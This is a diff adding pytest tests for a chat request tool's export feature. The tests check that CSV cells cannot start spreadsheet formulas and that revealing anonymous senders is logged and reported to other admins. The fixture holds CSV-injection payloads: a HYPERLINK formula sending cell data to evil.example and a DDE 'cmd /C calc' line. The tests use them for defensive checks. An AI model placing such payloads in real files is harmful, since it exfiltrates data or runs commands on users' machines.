@@ -108,3 +108,62 @@ def test_an_admin_sees_who_sent_it_and_is_reminded_to_keep_it_close(story, fmt):
     assert str(anonymous["anonymous"]) in ("True", "true"), "still marked anonymous"
     assert "as root (an admin) asked" in " ".join(result.stderr.split())
     assert "mia" not in result.stderr
+
+
+FORMULAS = """\
+@now 2026-11-23T09:00
+alice> /request finance reimbursement =HYPERLINK("http://evil.example/?x="&A1,"taxi")
+bob> /request comment FIN-1 +cmd|' /C calc'!A0
+bob> /request resolve FIN-1 -2+3 paid
+alice> /request confirm FIN-1
+alice> /request rate FIN-1 4 @SUM(1+1)
+henry> /suggest finance =1+1 as a suggestion
+"""
+DANGER = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize("what", TABLES)
+def test_csv_cells_never_start_a_spreadsheet_formula(engine, database_url, what):
+    chat_story(database_url, FORMULAS)
+    result = export(database_url, "--format", "csv", "--what", what)
+    assert result.exit_code == 0, result.output
+    cells = [v for row in parse(result.stdout, "csv") for v in row.values() if v]
+    assert cells, f"{what} exported nothing"
+    assert not [c for c in cells if c.startswith(DANGER)], f"a formula in the {what} export"
+    text = " ".join(cells)
+    expected = {"requests": "'=HYPERLINK(", "events": "'+cmd|", "ratings": "'@SUM(1+1)",
+                "suggestions": "'=1+1 as a suggestion"}[what]
+    assert expected in text, "the text is kept, shown as text"
+
+
+def test_jsonl_keeps_the_text_as_typed(engine, database_url):
+    chat_story(database_url, FORMULAS)
+    rows = parse(export(database_url, "--format", "jsonl", "--what", "suggestions").stdout,
+                 "jsonl")
+    assert rows[0]["text"] == "=1+1 as a suggestion"
+
+
+def test_a_reveal_is_recorded_and_the_other_admins_are_told(engine, database_url, tmp_path):
+    config = tmp_path / "two-admins.toml"
+    config.write_text(EXAMPLE.read_text(encoding="utf-8").replace(
+        'admins = ["root"]', 'admins = ["root", "grace"]', 1), encoding="utf-8")
+    out = invoke(["chat", "--config", str(config), "--database-url", database_url],
+                 input=STORY)
+    assert out.exit_code == 0, out.output
+    result = invoke(["export", "--config", str(config), "--database-url", database_url,
+                     "--what", "suggestions", "--reveal-anonymous", "--as", "root"])
+    assert result.exit_code == 0, result.output
+    from sqlmodel import Session, select
+
+    from storage.models import Disclosure
+    with Session(engine) as s:
+        [row] = s.exec(select(Disclosure)).all()
+    assert (row.actor_id, row.kind, row.subject_ids) == ("root", "anonymous_senders", [1])
+    assert row.created_at is not None
+    later = invoke(["chat", "--config", str(config), "--database-url", database_url],
+                   input="henry> /request list\n")
+    told = [line for line in later.output.splitlines() if "匿名建议" in line]
+    assert told and told[0].startswith("[to grace]"), later.output
+    assert "System Admin" in told[0] and "#1" in told[0]
+    assert "[to root]" not in later.output, "the admin who asked is not told of it"
+    assert "mia" not in later.output and "林娜" not in later.output
